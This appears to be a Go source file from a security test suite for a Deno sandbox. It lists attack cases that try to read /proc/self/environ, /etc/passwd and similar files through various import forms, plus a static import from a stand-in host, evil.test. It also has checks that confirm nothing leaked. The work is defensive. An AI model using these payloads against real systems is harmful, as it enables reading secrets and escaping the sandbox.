package attack

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
)

// imports are attempts to read files by what is not a reading: Deno asks for no permission where a module is named in
// the code itself. Each is a program of its own, as one that is refused keeps the program from starting; deno check
// refuses it too, so these are not files.
func imports() []Attack {
	all := []Attack{Attack{
		Section: "C", Name: "a static import from afar", Expected: "no way out", Judge: unasked, Code: `import "https://evil.test/static-TRIAL.js"; out({ status: 200 });`,
	}.expectFailure()}
	for _, f := range []struct{ name, code string }{
		{"as text", `import t from "PATH" with { type: "text" }; out({ status: 200, text: t });`},
		{"as bytes", `import t from "PATH" with { type: "bytes" }; out({ status: 200, text: new TextDecoder().decode(t) });`},
		{"as JSON", `import t from "PATH" with { type: "json" }; out({ status: 200, text: t });`},
		{"as a module", `import "PATH"; out({ status: 200 });`},
		{"by export from", `export * from "PATH"; out({ status: 200 });`},
		{"as WebAssembly", `import source m from "PATH"; out({ status: 200, text: String(m) });`},
		{"deferred", `import defer * as m from "PATH"; out({ status: 200, text: JSON.stringify(m) });`},
		{"by a source map", `//# sourceMappingURL=file://PATH
const path = "PATH"; try { throw new Error(path); } catch (e) { out({ status: 200, text: e.stack }); } throw new Error("uncaught");
//# sourceMappingURL=PATH`},
		{"by a type reference", `/// <reference types="PATH" />
/// <reference path="PATH" />
// @deno-types="PATH"
import * as x from "PATH";
out({ status: 200, text: JSON.stringify(x) });`},
	} {
		for _, path := range []string{"/proc/1/mountinfo", "/proc/self/environ", "/etc/passwd", "/etc/hosts"} {
			all = append(all, Attack{
				Section: "C", Name: "importing " + path + " " + f.name, Expected: "not found, or denied", Judge: unread,
				Code: strings.ReplaceAll(f.code, "PATH", path),
			})
		}
	}
	return all
}

// facts are what the files that the attacks name hold on any machine.
var facts = regexp.MustCompile(`root:x?:0|\brw,|\bro,|relatime|Linux version|localhost|DENO_DIR=|HOME=|GNU\\u0000|[0-9a-f]{64}`)

// unread: the code was not given what the file holds, and no message about it quotes it. Only that the module was not
// found is not a failure.
func unread(e *Evidence) (string, bool) {
	text := e.Result.Out + e.Result.Notes
	if found := facts.FindString(text); found != "" {
		return fmt.Sprintf("it says %q", found), false
	}
	for _, l := range e.lines() {
		if l.Status == 200 && len(l.Text) > 0 && !strings.HasPrefix(l.Text, "Error: /") {
			return "read: " + clip(l.Text, 80), false
		}
	}
	first, _, _ := strings.Cut(strings.TrimSpace(text), "\n")
	return clip(first, 90), e.Failed == nil && text != ""
}

// expectFailure marks an attack whose code cannot even start.
func (a Attack) expectFailure() Attack {
	inner := a.Judge
	a.Judge = func(e *Evidence) (string, bool) {
		if e.Result.IsError && !strings.Contains(e.Result.Out, `"status":200`) {
			return "the module did not load", e.Failed == nil
		}
		return inner(e)
	}
	return a
}

// unasked: no name of the trial was ever asked for outside, nothing of it arrived, and the code printed failures.
func unasked(e *Evidence) (string, bool) {
	asked := slices.ContainsFunc(e.World.Upstream.Asked(), func(n string) bool { return strings.Contains(n, strings.ToLower(e.Trial)) })
	if asked {
		return "the name was asked for outside", false
	}
	for _, s := range e.Arrived {
		if !strings.Contains(s.Target, "dns-query") {
			return "a request arrived at " + s.Host, false
		}
	}
	for _, l := range e.lines() {
		if l.Error == "" && l.Status == 200 {
			return e.brief(), false
		}
	}
	return e.brief(), len(e.lines()) > 0
}
